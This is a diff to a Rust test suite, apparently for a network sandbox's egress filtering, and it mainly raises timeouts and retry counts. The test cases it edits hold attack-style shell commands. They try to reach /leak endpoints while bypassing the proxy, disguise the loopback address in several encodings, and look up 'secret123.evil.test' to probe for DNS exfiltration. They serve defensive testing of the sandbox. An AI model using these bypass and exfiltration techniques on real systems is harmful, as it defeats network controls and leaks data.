@@ -101,17 +101,17 @@ s.sendall(b'GET / HTTP/1.0\\r\\n\\r\\n'); print(s.recv(12).decode())",
             .launcher(
                 "mkdir -p /run/sshd 2>/dev/null; /usr/sbin/sshd -D -e -p @FREE@ -o ListenAddress=127.0.0.1 -o HostKey=@W@/host \
                  -o AuthorizedKeysFile=@W@/keys -o StrictModes=no -o UsePAM=no -o PidFile=none -f /dev/null 2> @W@/sshd.log & sshd=$!
-                 for i in $(seq 50); do grep -q listening @W@/sshd.log && break; sleep 0.1; done
+                 for i in $(seq 600); do grep -q listening @W@/sshd.log && break; sleep 0.1; done
                  export GIT_SSH_COMMAND
                  @RUN@ /bin/sh -c 'echo @MARK@; host=git.test; getent hosts $host > /dev/null || host=127.0.0.1
-                 GIT_SSH_COMMAND=\"ssh -F /dev/null -i @P@/id -o IdentitiesOnly=yes -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o ConnectTimeout=5\" \
+                 GIT_SSH_COMMAND=\"ssh -F /dev/null -i @P@/id -o IdentitiesOnly=yes -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o ConnectTimeout=60\" \
                  git ls-remote ssh://@USER@@$host:@FREE@@W@/r.git'
                  kill $sshd; wait $sshd 2>/dev/null; true",
             )
             .works(prints("refs/heads/main")),
         client("W21e", "an answer is not a leak: a server inside is still reached", "curl")
             .sh("python3 -m http.server 8123 --bind 127.0.0.1 > /dev/null 2>&1 & \
-                 for i in 1 2 3 4 5 6 7 8 9 10; do curl -sS -o /dev/null -w '%{http_code}' http://127.0.0.1:8123/ 2>/dev/null && break; sleep 0.2; done")
+                 for i in $(seq 300); do curl -sS -o /dev/null -w '%{http_code}' http://127.0.0.1:8123/ 2>/dev/null && break; sleep 0.2; done")
             .boxed(prints("200")),
     ]
 }
@@ -133,7 +133,7 @@ fn refusals() -> Vec<Case> {
             .boxed(stderr_has("403")),
         listed(attack("W20b", "a host that is not listed, without the proxy"))
             .needs(Need::Tool("curl"))
-            .sh("test -z \"$http_proxy\" || export RES_OPTIONS=timeout:30
+            .sh("test -z \"$http_proxy\" || export RES_OPTIONS='timeout:30 attempts:5'
                  curl -sS --noproxy '*' --resolve b.test:@HTTP@:127.0.0.1 http://b.test:@HTTP@/leak; \
                  curl -sS --noproxy '*' http://b.test:@HTTP@/leak")
             .leak(heard("/leak"))
@@ -194,7 +194,7 @@ trying('loopback', lambda: s.sendto(b'to-loopback', ('127.0.0.1', @UDPPORT@)))",
         listed(attack("W15b", "addresses in every disguise"))
             .needs(Need::Tool("curl"))
             .sh("for h in 127.0.0.1 '[::ffff:127.0.0.1]' 127.1 0x7f.1 2130706433 0177.0.0.1 '[::1]'; do \
-                 curl -gsS -m 3 --noproxy '' http://$h:@HTTP@/leak; done; true")
+                 curl -gsS -m 60 --noproxy '' http://$h:@HTTP@/leak; done; true")
             .leak(heard("/leak")),
         listed(attack("W11", "a port that is not listed"))
             .needs(Need::Lan)
@@ -232,7 +232,7 @@ fn names() -> Vec<Case> {
             .control(ONLY_INSIDE)
             .boxed(stdout_is("x.a.test 403\na.test 200\ny.x.a.test 200\nxa.test 403")),
         listed(allowed("W17", "names that are not listed do not exist inside"))
-            .sh("export RES_OPTIONS=timeout:30; getent hosts secret123.evil.test || echo none; getent ahostsv4 a.test | head -1 | cut -d' ' -f1")
+            .sh("export RES_OPTIONS='timeout:30 attempts:5'; getent hosts secret123.evil.test || echo none; getent ahostsv4 a.test | head -1 | cut -d' ' -f1")
             .control(ONLY_INSIDE)
             .boxed(prints("none"))
             .boxed(prints("198.18.")),
@@ -240,12 +240,12 @@ fn names() -> Vec<Case> {
             .python(
                 "
 def ask(message):
-    s = socket.create_connection(('127.0.0.1', 53), 2)
+    s = socket.create_connection(('127.0.0.1', 53), 60)
     s.sendall(len(message).to_bytes(2, 'big') + message)
     answer = s.recv(512); return answer[2:]
 question = b'\\x12\\x34\\x01\\0\\0\\x01\\0\\0\\0\\0\\0\\0\\x01a\\x04test\\0\\0\\x01\\0\\x01'
 print(ask(question)[-4:][:2] == bytes([198, 18]), ask(question[:20])[3] & 15)
-u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.settimeout(2)
+u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.settimeout(60)
 for junk in (b'', b'x', b'\\xff' * 600, question[:15]):
     u.sendto(junk, ('127.0.0.1', 53))
 u.sendto(question, ('127.0.0.1', 53))
